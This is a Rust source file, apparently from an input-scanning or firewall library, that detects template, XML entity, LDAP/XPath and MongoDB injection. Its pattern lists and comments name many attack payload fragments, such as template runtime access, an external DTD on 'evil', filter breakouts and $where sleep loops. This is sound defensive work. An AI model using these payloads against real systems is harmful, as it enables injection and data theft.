//! The smaller injection classes: template (SSTI), XML external entities,
//! LDAP filters, NoSQL operators and CRLF / header injection.
//!
//! Each looks for the syntax the target interpreter needs rather than for
//! words: a template expression that computes (`{{7*7}}`) or reaches into the
//! runtime (`__class__`, `config`, `T(java...)`), an entity declaration, an
//! LDAP filter that closes and reopens (`*)(uid=*`), a MongoDB query operator
//! used as a key, a line break followed by a header. Plain templates such as
//! "Hello {{name}}" and multi-line text pass.

use super::needles::Needles;
use super::normalize::{find, trig, Normalized};

const SSTI_OPENERS: Needles = Needles::new(&[
    b"{{", b"${", b"#{", b"*{", b"@{", b"{%", b"<%", b"[[", b"%{", b"@(",
    // Template Toolkit `[% 7*7 %]`, Latte `{=7*7}`.
    b"[%", b"{=",
]);

/// Words inside a template expression that reach the runtime.
const SSTI_WORDS: Needles = Needles::new(&[
    b"__",
    b"config",
    b"request.application",
    b"request.environ",
    b"constructor",
    b"getruntime",
    b".exec",
    b"system(",
    b"popen",
    b"settings.",
    b"t(java",
    b"freemarker",
    b"getclass",
    b"_memberaccess",
    b"#context",
    b"ognl",
    b"process.env",
    b"process.mainmodule",
    b"require(",
    b"new()",
    b".forname(",
    b"eval(",
    b"dump(",
    b"@java",
    b"@org",
    b"getenv",
    b"exec(",
    b"phpinfo",
    b"import(",
    b"file.open",
    b"file.read",
    b"io.popen",
    b"open(",
    b"subclasses(",
    b".class.",
    b"|attr(",
    b"request.server",
    b"app.request",
    b"|join",
    // Twig filters handed a PHP callable by name (`['id']|filter('system')`,
    // `|map("passthru")`); templates pass arrow functions there.
    b"|filter('",
    b"|filter(\"",
    b"|map('",
    b"|map(\"",
    b"|reduce('",
    b"|reduce(\"",
    b"|sort('",
    b"|sort(\"",
]);

/// Template statements that need no expression to be dangerous.
const SSTI_ANYWHERE: Needles = Needles::new(&[
    b"<#assign",
    b"#set($",
    b"#foreach(",
    b"$class.inspect",
    b"{php}",
    b"{/php}",
    b"{system(",
    b"t(java.lang",
    b"{{''.",
    b"{{\"\".",
    b"{{[].",
    b"{{().",
    b"{% import",
    b"{% debug",
    b"{{_self",
    b"{{self}}",
    b"{{ self }}",
    b"freemarker.template.utility",
    b"${{",
    b"*{t(",
    b"@(7*7)",
    // Smarty's own variable reaches the engine (`{$smarty.version}`).
    b"{$smarty.",
]);

/// Bytes of a template expression read after its opener (`{{{{...` stays linear).
const EXPR_SPAN: usize = 160;

pub fn ssti(n: &Normalized) -> bool {
    let s = n.text;
    if !n.has(trig::BRACE | trig::LT | trig::DOLLAR | trig::PAREN) {
        return false;
    }
    if SSTI_ANYWHERE.found_in(s) || brace_product(s) {
        return true;
    }
    // An opener inside the expression of the previous one (`{{{{...`) has
    // the same end and a suffix of its text: already judged.
    let mut judged_to = 0;
    SSTI_OPENERS.any_match(s, |open, p| {
        let at = p + open.len();
        if at < judged_to {
            return false;
        }
        // The expression runs to its own closer: `{{ [].x }}` holds brackets.
        let closer = match open[0] {
            b'<' => b'>',
            b'[' => b']',
            b'@' if open[1] == b'(' => b')',
            _ => b'}',
        };
        let end = s[at..]
            .iter()
            .take(EXPR_SPAN)
            .position(|&b| b == closer)
            .map_or(s.len(), |e| at + e);
        let expr = &s[at..end.min(at + EXPR_SPAN)];
        judged_to = at + expr.len();
        // `{{7*7}}`, `${7*'7'}`, `<%= 1337*1337 %>`: arithmetic on literals.
        arithmetic(expr) || SSTI_WORDS.found_in(expr) || (end < s.len() && spaced_sum(expr))
    })
}

/// `{7*7}`: the single-brace probe of Smarty, Latte and Python's
/// `str.format` family, a product of two numbers and nothing else. Only
/// `*`, and not after `^`, `_` or a letter (LaTeX `x^{2+1}`, `\frac{a+b}`
/// write sums there and name their products). One pass: a digit run stops
/// at the next `{`.
fn brace_product(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr(b'{', t)) {
        let at = from + p;
        from = at + 1;
        if at > 0 && (s[at - 1].is_ascii_alphanumeric() || matches!(s[at - 1], b'^' | b'_' | b'\\'))
        {
            continue;
        }
        let digits = |k: usize| {
            s[k.min(s.len())..]
                .iter()
                .take_while(|b| b.is_ascii_digit())
                .count()
        };
        let a = digits(at + 1);
        if a == 0 || s.get(at + 1 + a) != Some(&b'*') {
            continue;
        }
        let b = digits(at + 2 + a);
        if b > 0 && s.get(at + 2 + a + b) == Some(&b'}') {
            return true;
        }
    }
    false
}

/// A closed expression that is two numbers and a space (`{{4 8}}`): the
/// `{{4+8}}` probe sent with a raw `+`, which a query string or form reads
/// as a space; no template holds two bare numbers side by side.
fn spaced_sum(e: &[u8]) -> bool {
    let e = e.trim_ascii();
    let a = e.iter().take_while(|b| b.is_ascii_digit()).count();
    a > 0 && e.get(a) == Some(&b' ') && e.len() > a + 1 && e[a + 1..].iter().all(u8::is_ascii_digit)
}

fn arithmetic(e: &[u8]) -> bool {
    let mut i = 0;
    while i < e.len() {
        if e[i].is_ascii_digit() {
            let mut j = i;
            while j < e.len() && e[j].is_ascii_digit() {
                j += 1;
            }
            while matches!(e.get(j), Some(b' ' | b'\'' | b'"')) {
                j += 1;
            }
            if matches!(e.get(j), Some(b'*' | b'+')) {
                j += 1;
                // `7 ** 7`: exponentiation (Jinja, Twig, Python).
                if e[j - 1] == b'*' && e.get(j) == Some(&b'*') {
                    j += 1;
                }
                while matches!(e.get(j), Some(b' ' | b'\'' | b'"')) {
                    j += 1;
                }
                if e.get(j).is_some_and(|b| b.is_ascii_digit())
                    && (i == 0 || !e[i - 1].is_ascii_alphanumeric())
                {
                    return true;
                }
            }
            i = j.max(i + 1);
        } else {
            i += 1;
        }
    }
    false
}

/// Bytes of a `<!DOCTYPE` declaration read up to its `>`.
const DECL_SPAN: usize = 512;

pub fn xxe(n: &Normalized) -> bool {
    let s = n.text;
    if !n.has(trig::LT) {
        return false;
    }
    // One needle pass: `<!` in UTF-7 (`+ADwAIQ-`), declared or not
    // (parsers that honour `encoding="UTF-7"` read a DOCTYPE no filter
    // saw), entity declarations, XInclude, and XSLT handed to a
    // transformer: it reads files (`document()`), the processor
    // (`system-property()`) and, with extensions, runs code.
    const ANYWHERE: Needles = Needles::new(&[
        b"+adwaiq",
        b"+adw-!",
        b"encoding=\"utf-7\"",
        b"encoding='utf-7'",
        b"<!entity",
        // XInclude and XSLT by their namespaces, whatever the prefix (or
        // none: `<include xmlns="http://www.w3.org/2001/XInclude" href=..>`).
        b"http://www.w3.org/2001/xinclude",
        b"http://www.w3.org/1999/xsl/transform",
        // A stylesheet the XML asks its reader to fetch and apply.
        b"<?xml-stylesheet type=\"text/xsl\"",
        b"<?xml-stylesheet type='text/xsl'",
        // A CDATA section holding nothing but `<` or `>`: markup split so
        // that no filter sees it, joined again by the parser
        // (`<![CDATA[<]]>script<![CDATA[>]]>`).
        b"<![cdata[<]]>",
        b"<![cdata[>]]>",
        b"xmlns:xi=",
        b"<xi:include",
        b"<xsl:stylesheet",
        b"<xsl:transform",
        b"<xsl:template",
        b"<xsl:value-of",
        b"<xsl:copy-of",
        b"<xsl:include",
        b"<xsl:import",
        b"<xsl:for-each",
        b"xmlns:php=\"http://php.net/xsl\"",
        // An XML Schema that pulls in another document: a schema compiled
        // from a request fetches it (SSRF, and `file:` reads).
        b"<xs:include",
        b"<xsd:include",
        b"<xs:import",
        b"<xsd:import",
        b"<xs:redefine",
        b"<xsd:redefine",
        b"<xs:override",
        b"<xsd:override",
    ]);
    if ANYWHERE.found_in(s) {
        return true;
    }
    if find(s, b"schemalocation=").is_some() && foreign_schema_location(s) {
        return true;
    }
    if find(s, b"<?xml-stylesheet").is_some_and(|at| foreign_stylesheet(&s[at..])) {
        return true;
    }
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"<!doctype")) {
        let at = from + p;
        from = at + 1;
        let end = s[at..]
            .iter()
            .take(DECL_SPAN)
            .position(|&b| b == b'>')
            .map_or(s.len().min(at + DECL_SPAN), |e| at + e);
        let decl = &s[at..end];
        // An internal subset or an external DTD; `<!DOCTYPE html PUBLIC
        // "-//W3C//..."` is ordinary HTML.
        // The keywords are separated by any whitespace (normalisation
        // leaves one space, or one `\n` for a run with a line break).
        let keyword = |k: &[u8]| {
            let mut from = 0;
            while let Some(p) = decl.get(from..).and_then(|t| find(t, k)) {
                let at = from + p;
                from = at + 1;
                let before = at.checked_sub(1).map(|b| decl[b]);
                let after = decl.get(at + k.len()).copied();
                if matches!(before, Some(b' ' | b'\n'))
                    && matches!(after, None | Some(b' ' | b'\n' | b'"' | b'\''))
                {
                    return true;
                }
            }
            false
        };
        if decl.contains(&b'[') || keyword(b"system") {
            return true;
        }
        if keyword(b"public") && (find(decl, b"-//w3c//").is_none() || foreign_system_id(decl)) {
            return true;
        }
    }
    false
}

/// An `xsi:schemaLocation` / `xsi:noNamespaceSchemaLocation` whose
/// location (the second of each namespace-location pair, or a lone URL) a
/// validating parser would fetch and that holds no schema: a URL with a
/// scheme other than http(s) (`file:`, `ftp:`, `jar:`...), or an http(s)
/// URL to a site root or a directory
/// (`xsi:schemaLocation="http://x.oast.example/"`, the out-of-band probe).
/// Schemas are documents (`.../spring-beans.xsd`, `sitemap.xsd`);
/// namespace names (`http://maven.apache.org/POM/4.0.0`) are not fetched.
fn foreign_schema_location(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"schemalocation=")) {
        let at = from + p + b"schemalocation=".len();
        from = at;
        let Some(&q @ (b'"' | b'\'')) = s.get(at) else {
            continue;
        };
        let value = &s[at + 1..s.len().min(at + 1 + DECL_SPAN)];
        let value = &value[..value.iter().position(|&b| b == q).unwrap_or(value.len())];
        // The next search starts after this value: each byte is read once.
        from = at + 1 + value.len();
        let lone = find(&s[at.saturating_sub(40)..at], b"nonamespace").is_some();
        let tokens = value
            .split(|b| b.is_ascii_whitespace())
            .filter(|t| !t.is_empty());
        let count = tokens.clone().count();
        for (i, url) in tokens.enumerate() {
            // Pairs: the odd tokens are locations; a last unpaired one too.
            if !(lone || i % 2 == 1 || i + 1 == count) {
                continue;
            }
            let Some(sep) = find(url, b"://") else {
                continue;
            };
            let scheme = &url[..sep];
            if !scheme.iter().all(u8::is_ascii_alphanumeric) || scheme.is_empty() {
                continue;
            }
            if scheme != b"http" && scheme != b"https" {
                return true;
            }
            let rest = &url[sep + 3..];
            let path = rest
                .iter()
                .position(|&b| b == b'/')
                .map_or(&b""[..], |p| &rest[p..]);
            if path.is_empty() || path.ends_with(b"/") {
                return true;
            }
        }
    }
    false
}

/// An `<?xml-stylesheet href=..?>` of any type but CSS (`text/xsl`, none,
/// `application/xslt+xml`, `text/xml`): a transformation the document asks
/// its reader to fetch and run. RSS and Atom feeds style themselves with
/// `type="text/css"`.
fn foreign_stylesheet(pi: &[u8]) -> bool {
    let end = pi
        .iter()
        .take(DECL_SPAN)
        .position(|&b| b == b'>')
        .unwrap_or(pi.len().min(DECL_SPAN));
    let pi = &pi[..end];
    find(pi, b"href").is_some() && find(pi, b"text/css").is_none()
}

/// A `PUBLIC` declaration whose system identifier (the second literal, the
/// one a parser fetches) is an absolute URL off `www.w3.org`: a W3C public
/// id in front of an attacker's DTD (`PUBLIC "-//W3C//DTD XHTML 1.0//EN"
/// "http://evil/x.dtd"`). HTML and SVG doctypes point at w3.org, or at a
/// relative path in old documents.
fn foreign_system_id(decl: &[u8]) -> bool {
    let mut literals = decl.split(|&b| b == b'"' || b == b'\'').skip(1).step_by(2);
    let Some(system) = literals.nth(1) else {
        return false;
    };
    system.contains(&b':')
        && !system.starts_with(b"http://www.w3.org/")
        && !system.starts_with(b"https://www.w3.org/")
}

/// LDAP filter injection, and XPath injection (the other query language
/// of directories and XML stores, judged in the same class).
pub fn ldap(n: &Normalized) -> bool {
    let s = n.text;
    // One pass of [`FILTER_NEEDLES`] for the filter shapes, the axes and the
    // rooted structure functions (four passes until December 2).
    if n.has(trig::PAREN | trig::COLON) && filter_needle(s) {
        return true;
    }
    if n.has(trig::QUOTE | trig::PAREN | trig::COLON) && xpath(s) {
        return true;
    }
    if n.has(trig::STAR) && metacharacters_only(s) {
        return true;
    }
    if n.has(trig::PAREN) && filter_operators_only(s) {
        return true;
    }
    if n.has(trig::SLASH) && escaped_metacharacters(s) {
        return true;
    }
    if n.has(trig::COLON) && extensible_match(s) {
        return true;
    }
    if !n.has(trig::PAREN) {
        return false;
    }
    // A value that opens with a filter operator or a nested filter
    // (`!(uid=admin)`, `|(cn=x)`, `((uid=admin))`).
    if let [b'!' | b'&' | b'|' | b'(', b'(', rest @ ..] = s {
        if filter_item(rest) {
            return true;
        }
    }
    // `(uid=*)`: a presence filter on an attribute.
    find(s, b"=*)").is_some_and(|p| {
        s[..p]
            .iter()
            .rev()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
            .count()
            > 0
            && s[..p].contains(&b'(')
    })
}

/// XPath functions that read the document's structure or text, the ones a
/// blind XPath injection enumerates it with.
const XPATH_FUNCTIONS: &[&[u8]] = &[
    b"name",
    b"local-name",
    b"namespace-uri",
    b"count",
    b"string-length",
    b"substring",
    b"substring-before",
    b"substring-after",
    b"contains",
    b"starts-with",
    b"string",
    b"normalize-space",
    b"translate",
    b"concat",
    b"position",
    b"last",
    b"text",
    b"node",
    b"boolean",
    b"number",
    b"sum",
    b"document",
    b"doc",
    b"unparsed-text",
    b"codepoints-to-string",
    b"string-to-codepoints",
    b"lower-case",
    b"upper-case",
    b"true",
    b"false",
    b"not",
];

/// The needles of LDAP filters and XPath steps, read in one pass by
/// [`filter_needle`].
const FILTER_NEEDLES: Needles = Needles::new(&[
    // Filters that close and reopen, or match everything.
    b"*)(",
    b")(&)",
    b")(|)",
    b"(objectclass=",
    b"*))",
    b"*()|&",
    b")(!(",
    b")(&(",
    b")(|(",
    // Directory attributes no other syntax writes after `(`.
    b"(objectcategory=",
    b"(samaccountname=",
    b"(userpassword=",
    b"(unicodepwd=",
    b"(memberof=",
    b"(useraccountcontrol",
    // Openers, flagged when a filter item follows (`)(uid=`, `*) (cn=`).
    b")(",
    b"*) (",
    b"(|(",
    b"(&(",
    b"(!(",
    // A structure function applied to the document root (`name(/*)`,
    // `count(//user)`): an XPath expression, not text.
    b"count(/",
    b"name(/",
    b"local-name(/",
    b"string(/",
    b"string-length(/",
    b"sum(/",
    // Axes, as written in a location step (`child::node()`).
    b"child::",
    b"parent::",
    b"ancestor::",
    b"ancestor-or-self::",
    b"descendant::",
    b"descendant-or-self::",
    b"following::",
    b"following-sibling::",
    b"preceding::",
    b"preceding-sibling::",
    b"attribute::",
    b"self::",
    b"namespace::",
]);

/// Filters that close and reopen (`*)(`, `)(&)`, `(objectclass=`), an
/// opener followed by a filter item (`*) (`: a wildcard's filter closed
/// and the next opened across a space, which lenient filter parsers skip,
/// `*) (uid=*`; prose puts one parenthesis after another, "Shirt (blue)
/// (size=L)"), a structure function on the root (`count(/`), or a location
/// step with an axis (`/child::x`, `(child::x`, or a node test:
/// `child::node()`, `self::*`).
fn filter_needle(s: &[u8]) -> bool {
    FILTER_NEEDLES.any_match(s, |needle, p| {
        let after = &s[p + needle.len()..];
        match needle {
            b")(" | b"*) (" | b"(|(" | b"(&(" | b"(!(" => filter_item(after),
            axis if axis.ends_with(b"::") => {
                matches!(
                    p.checked_sub(1).map(|b| s[b]),
                    Some(b'/' | b'(' | b'[' | b'|')
                ) || after.starts_with(b"*")
                    || after.starts_with(b"node()")
                    || after.starts_with(b"text()")
            }
            _ => true,
        }
    })
}

/// Bytes after a quote breakout read for the XPath that follows it.
const XPATH_SPAN: usize = 64;

/// XPath injection: a quote that closes the application's string literal
/// followed by a boolean or union operator and XPath (a structure function
/// such as `name()` or `count(`, an axis, a rooted path: `' or name()='x`,
/// `') or count(/*)=1 or ('`, `'] | //*`), or a location step with an
/// axis anywhere (`count(/child::node())`). A quote followed by words
/// ("it's or") or by SQL is not XPath.
fn xpath(s: &[u8]) -> bool {
    // (The rooted structure functions and the axes are in [`filter_needle`].)
    if s.first() == Some(&b'/') && rooted_query(s) {
        return true;
    }
    // A number that goes on with `or`/`and` and an XPath function call
    // (`1 or true()`, `0 and count(/*)=1`): a numeric predicate broken out.
    let digits = s.iter().take_while(|b| b.is_ascii_digit()).count();
    if digits > 0 {
        let rest = &s[digits..];
        let rest = rest
            .strip_prefix(b" or ")
            .or_else(|| rest.strip_prefix(b" and "));
        if let Some(rest) = rest {
            let name = rest
                .iter()
                .take_while(|b| b.is_ascii_lowercase() || **b == b'-')
                .count();
            if rest.get(name) == Some(&b'(') && XPATH_FUNCTIONS.contains(&&rest[..name]) {
                return true;
            }
        }
    }
    // The first quote of each kind: the one that would end the literal.
    for q in [b'\'', b'"'] {
        let Some(at) = s.iter().position(|&b| b == q) else {
            continue;
        };
        let tail = &s[at + 1..s.len().min(at + 1 + XPATH_SPAN)];
        // Closers of the predicate the literal was in: `')`, `']`.
        let mut i = tail
            .iter()
            .take_while(|&&b| matches!(b, b')' | b']' | b' '))
            .count();
        let closed = tail[..i].contains(&b']');
        let op = if tail[i..].starts_with(b"or ") || tail[i..].starts_with(b"and ") {
            if tail[i] == b'o' {
                3
            } else {
                4
            }
        } else if tail[i..].starts_with(b"|") {
            1
        } else {
            continue;
        };
        i += op;
        while tail.get(i) == Some(&b' ') {
            i += 1;
        }
        let rest = &tail[i..];
        // `| //user`, `or /*`: a union or test on a rooted path.
        if rest.starts_with(b"//") || rest.starts_with(b"/*") {
            return true;
        }
        if op == 1 && !closed {
            continue;
        }
        // `or name()=`, `or count(/`, `or not(contains(`.
        let rest = rest
            .strip_prefix(b"not(")
            .or_else(|| rest.strip_prefix(b"("))
            .unwrap_or(rest);
        let name = rest
            .iter()
            .take_while(|b| b.is_ascii_lowercase() || **b == b'-')
            .count();
        let call = rest[name..]
            .iter()
            .find(|&&b| b != b' ')
            .is_some_and(|&b| b == b'(');
        if call && XPATH_FUNCTIONS.contains(&&rest[..name]) {
            return true;
        }
    }
    false
}

/// A value that is an XPath query on the document root: a location path
/// (`//user`, `/users/user[1]`) whose predicate calls an XPath function or
/// joins a comparison with `or`/`and` (`//user[position()=1]`,
/// `//*[contains(name(),'pass')]`, `//user[name='a' or 1=1]`), or whose
/// last step is a node test (`/users/user/password/text()`). A path with
/// a numeric predicate (`/bookstore/book[1]/title`) passes.
fn rooted_query(s: &[u8]) -> bool {
    let s = &s[..s.len().min(XPATH_SPAN * 2)];
    let mut i = 0;
    loop {
        let steps = s[i..]
            .iter()
            .take_while(|&&b| {
                b.is_ascii_alphanumeric()
                    || matches!(b, b'/' | b'*' | b'@' | b'_' | b'-' | b'.' | b':')
            })
            .count();
        if i + steps < 2 {
            return false;
        }
        let path = &s[..i + steps];
        let rest = &s[i + steps..];
        if rest.starts_with(b"()") {
            return [&b"/text"[..], b"/node", b"/comment"]
                .iter()
                .any(|t| path.ends_with(t));
        }
        if rest.first() != Some(&b'[') {
            return false;
        }
        let pred = &rest[1..];
        let Some(end) = pred.iter().position(|&b| b == b']') else {
            return predicate_query(pred);
        };
        if predicate_query(&pred[..end]) {
            return true;
        }
        i += steps + 1 + end + 1;
    }
}

/// The inside of an XPath predicate calls a function or joins a
/// comparison with `or`/`and`.
fn predicate_query(pred: &[u8]) -> bool {
    let mut i = 0;
    while i < pred.len() {
        let name = pred[i..]
            .iter()
            .take_while(|b| b.is_ascii_lowercase() || **b == b'-')
            .count();
        if name == 0 {
            i += 1;
            continue;
        }
        let w = &pred[i..i + name];
        let after = pred.get(i + name).copied();
        let before = i.checked_sub(1).map(|b| pred[b]);
        if after == Some(b'(') && XPATH_FUNCTIONS.contains(&w) {
            return true;
        }
        if matches!(w, b"or" | b"and")
            && before == Some(b' ')
            && after == Some(b' ')
            && pred.contains(&b'=')
        {
            return true;
        }
        i += name;
    }
    false
}

/// A value made only of filter or path metacharacters around a wildcard:
/// an LDAP filter fragment (`*)`, `*|`, `*()|&`, `(*))`) or an XPath
/// wildcard step (`//*`, `@*`, `/*[1]`). No name, number or text is
/// punctuation alone; `*`, `*/*` (a media range) and `**` pass.
fn metacharacters_only(s: &[u8]) -> bool {
    if s.len() < 2 || s.len() > 64 || !s.contains(&b'*') {
        return false;
    }
    let ldap = s
        .iter()
        .all(|b| matches!(b, b'*' | b'(' | b')' | b'|' | b'&' | b'!' | b'='))
        && s.iter().any(|b| matches!(b, b'(' | b')' | b'|' | b'&'));
    let xpath = s
        .iter()
        .all(|b| matches!(b, b'*' | b'/' | b'@' | b'[' | b']' | b'|' | b'0'..=b'9'))
        && (find(s, b"//").is_some() || s.contains(&b'@') || s.contains(&b'['));
    ldap || xpath
}

/// A value made only of filter parentheses and operators, without a
/// wildcard, that closes a filter and opens the next (`)(&`, `)(|`, `))(|(`)
/// or is an absolute filter (RFC 4526: `(&)` always true, `(|)` always
/// false): the fragments an LDAP injection probe closes the application's
/// filter with. `()`, `(!)`, `:)` and `)` alone pass (an empty call, an
/// emoticon, a fuzz byte), and so does `()()` (no operator).
fn filter_operators_only(s: &[u8]) -> bool {
    s.len() >= 3
        && s.len() <= 32
        && s.iter()
            .all(|b| matches!(b, b'(' | b')' | b'|' | b'&' | b'!'))
        && s.iter().any(|b| matches!(b, b'|' | b'&' | b'!'))
        && (find(s, b")(").is_some() || find(s, b"(&)").is_some() || find(s, b"(|)").is_some())
}

/// A value that is only filter metacharacters written as RFC 4515 escapes
/// (`\28`, `\29`, `\2a\29`, `\21`, `\26`, `\7c`, `\00`, `\5c`): the probe of
/// whether the application decodes them into a filter, as a value that is
/// only `<` written as a character reference is for markup (`xss.rs`). An
/// escape inside text (`\28cn=\2a\29`, an escaped assertion value) passes.
fn escaped_metacharacters(s: &[u8]) -> bool {
    if s.len() < 3 || s.len() > 24 || s.len() % 3 != 0 {
        return false;
    }
    s.chunks(3).all(|e| {
        matches!(
            e,
            [b'\\', b'2', b'8' | b'9' | b'a' | b'1' | b'6']
                | [b'\\', b'7', b'c']
                | [b'\\', b'0', b'0']
                | [b'\\', b'5', b'c']
        )
    })
}

/// An LDAP extensible match (RFC 4515: `attr[:dn][:rule]:=value`) with a
/// `:dn` or a matching rule (an OID or a `...Match` name):
/// `userPassword:2.5.13.18:=123`, `(cn:dn:=admin)`,
/// `sn:caseExactMatch:=Smith`. Only a directory filter writes `:=` after
/// such a component; Pascal's and Go's `x := 1` have none.
fn extensible_match(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b":=")) {
        let at = from + p;
        from = at + 2;
        // The component before `:=`, then the one before it when it is `dn`.
        let comp = |end: usize| {
            let start = s[..end]
                .iter()
                .rposition(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-')))
                .map_or(0, |p| p + 1);
            (start, &s[start..end])
        };
        let (start, rule) = comp(at);
        // Matching rules' OIDs have three arcs or more (`2.5.13.2`,
        // Active Directory's `1.2.840.113556.1.4.803`).
        let oid = rule[..rule.len().min(1)].iter().all(u8::is_ascii_digit)
            && rule.iter().filter(|&&b| b == b'.').count() >= 2
            && rule.iter().all(|b| b.is_ascii_digit() || *b == b'.');
        let named = rule.len() > 5 && rule.ends_with(b"match");
        if !(oid || named || rule == b"dn") || start == 0 || s[start - 1] != b':' {
            continue;
        }
        // `attr:rule:=`, `attr:dn:rule:=` or `:dn:rule:=` (no attribute).
        let attr = comp(start - 1).1;
        if (attr == b"dn" && rule != b"dn") || attr.first().is_some_and(u8::is_ascii_alphabetic) {
            return true;
        }
    }
    false
}

/// `attr=`, `attr>=`, `attr~=` at the start of `s`.
fn filter_item(s: &[u8]) -> bool {
    let name = s
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-' || **b == b';' || **b == b'.')
        .count();
    if name == 0 || !s[0].is_ascii_alphabetic() {
        return false;
    }
    matches!(s.get(name), Some(b'='))
        || matches!(s.get(name..name + 2), Some(b">=" | b"<=" | b"~="))
}

/// MongoDB operators that bypass a login or run code whatever their operand.
const NOSQL_ALWAYS: &[&[u8]] = &[
    b"ne",
    b"nin",
    b"regex",
    b"exists",
    b"where",
    b"function",
    b"accumulator",
    b"expr",
    b"not",
    b"jsonschema",
    b"elemmatch",
    b"comment",
];
/// Comparison operators: attacks only with an empty or null operand.
const NOSQL_COMPARE: &[&[u8]] = &[
    b"gt", b"gte", b"lt", b"lte", b"eq", b"in", b"all", b"size", b"type", b"mod",
];

/// How an operator name (without `$`) counts, given its operand.
pub fn nosql_operator(op: &[u8], operand: &[u8]) -> bool {
    // Every operator has 2 to 11 letters: other keys (`$a`, a long `$x...`)
    // are not compared with the lists at all, and the lists are compared
    // with one lowercase copy (as slices: a length test per entry).
    if !(2..=OPERATOR_MAX).contains(&op.len()) {
        return false;
    }
    let mut low = [0u8; OPERATOR_MAX];
    let low = &mut low[..op.len()];
    low.copy_from_slice(op);
    low.make_ascii_lowercase();
    let low: &[u8] = low;
    if NOSQL_ALWAYS.contains(&low) {
        return true;
    }
    NOSQL_COMPARE.contains(&low)
        && matches!(
            operand.trim_ascii(),
            b"" | b"\"\"" | b"''" | b"null" | b"{}" | b"[]" | b"undefined"
        )
}

/// The longest operator name of the two lists (`accumulator`).
const OPERATOR_MAX: usize = 11;

/// Operators inside a value (`{"$ne": null}` in a parameter, `[$ne]` in a
/// cookie) and JavaScript injected into `$where`.
pub fn nosql(n: &Normalized) -> bool {
    let s = n.text;
    if !n.has(trig::DOLLAR | trig::PIPE_AMP | trig::SEMI | trig::DOT) {
        return false;
    }
    let mut from = 0;
    while let Some(p) = s
        .get(from..)
        .and_then(|t| t.iter().position(|&b| b == b'$'))
    {
        let at = from + p;
        from = at + 1;
        // A key: `{"$ne"`, `, '$gt'`, `{$where`, `[$ne]`. An unquoted `$x`
        // after a comma is a GraphQL variable (`query($limit: Int, $where: ...)`).
        let quoted = at > 0 && matches!(s[at - 1], b'"' | b'\'');
        let scan_to = if quoted { at - 1 } else { at };
        let before = s[..scan_to].iter().rev().find(|&&b| b != b' ');
        // At the value start, an operator key followed by `:` is the
        // value spliced into a query object (`$where: '1 == 1'`).
        let opens = at == 0;
        let key = if opens {
            true
        } else if quoted {
            matches!(before, Some(b'{' | b'[' | b','))
        } else {
            matches!(before, Some(b'{' | b'['))
                || (before == Some(&b',') && literal_operand(&s[at..]))
        };
        if !key {
            continue;
        }
        let len = s[at + 1..]
            .iter()
            .take_while(|b| b.is_ascii_alphabetic())
            .count();
        // No operator is shorter than two letters (`$a`, `$` alone).
        if len < 2 {
            continue;
        }
        let op = &s[at + 1..at + 1 + len];
        let mut k = at + 1 + len;
        while matches!(s.get(k), Some(b'"' | b'\'' | b' ' | b']')) {
            k += 1;
        }
        if !matches!(s.get(k), Some(b':' | b'=')) && k < s.len() {
            continue;
        }
        if opens && s.get(k) != Some(&b':') {
            continue;
        }
        let operand_end = s[k.min(s.len())..]
            .iter()
            .take(super::fields::OPERAND_SPAN)
            .position(|&b| matches!(b, b',' | b'}'))
            .map_or(s.len().min(k + super::fields::OPERAND_SPAN), |e| k + e);
        let operand = s.get(k + 1..operand_end).unwrap_or(&[]);
        if nosql_operator(op, operand) {
            return true;
        }
        // `$or: [{}, ...]`: an empty condition matches every document.
        let array = &s[k.min(s.len())..s.len().min(k + super::fields::OPERAND_SPAN)];
        if matches!(op, b"or" | b"and" | b"nor")
            && array.contains(&b'[')
            && find(array, b"{}").is_some()
        {
            return true;
        }
    }
    const JS: Needles = Needles::new(&[
        b"this.password",
        b"this.username",
        b".match(/.*/)",
        b"db.getcollectionnames(",
        b"db.dropdatabase(",
        b";return true",
        b"; return true",
        b"return 1==1",
        b"'=='",
        b"\"==\"",
        // Loops and sleeps injected into `$where` (server-side JavaScript DoS).
        b";do{",
        b"}while(",
        b"while(true)",
        b"while(1)",
        b";sleep(",
        b"||sleep(",
        b"&&sleep(",
        b"db.getsiblingdb(",
        b"db.getcollection(",
    ]);
    if JS.found_in(s) || mongo_shell(s) {
        return true;
    }
    // The quote that ends the application's JavaScript string, then a
    // statement or a logical operator reaching into the document:
    // `'; return this.a != '`, `"; sleep(5000); "`, `' || this.role`.
    if let Some(q) = s.iter().position(|&b| b == b'\'' || b == b'"') {
        let t = s[q + 1..s.len().min(q + 48)].trim_ascii_start();
        let after = [b";" as &[u8], b"||", b"&&"]
            .iter()
            .find_map(|op| t.strip_prefix(*op))
            .map(<[u8]>::trim_ascii_start);
        const STATEMENTS: &[&[u8]] = &[
            b"return ",
            b"return(",
            b"return!",
            b"this.",
            b"this[",
            b"sleep(",
            b"while(",
            b"while (",
            b"do{",
            b"do {",
            b"for(",
            b"throw ",
            b"db.",
            b"process.",
            b"tojson(",
        ];
        if after.is_some_and(|a| STATEMENTS.iter().any(|k| a.starts_with(k))) {
            return true;
        }
    }
    // A value that opens with a JavaScript condition (`|| 1==1`).
    let t = s.trim_ascii_start();
    if (t.starts_with(b"||") || t.starts_with(b"&&"))
        && find(&t[..t.len().min(40)], b"==").is_some()
    {
        return true;
    }
    // `' || '1'=='1`, `"&& 1==1//`: JavaScript equality after a logical operator.
    for op in [b"||" as &[u8], b"&&"] {
        if let Some(p) = find(s, op) {
            let tail = &s[p + 2..s.len().min(p + 40)];
            if find(tail, b"==").is_some() && s[..p].iter().any(|&b| b == b'\'' || b == b'"') {
                return true;
            }
        }
    }
    false
}

/// The MongoDB shell: `db.<collection>.insert({...})` and friends.
fn mongo_shell(s: &[u8]) -> bool {
    let Some(p) = find(s, b"db.") else {
        return false;
    };
    if p > 0 && s[p - 1].is_ascii_alphanumeric() {
        return false;
    }
    let rest = &s[p + 3..s.len().min(p + 80)];
    let name = rest
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    const CALLS: &[&[u8]] = &[
        b".insert(",
        b".insertone(",
        b".insertmany(",
        b".find(",
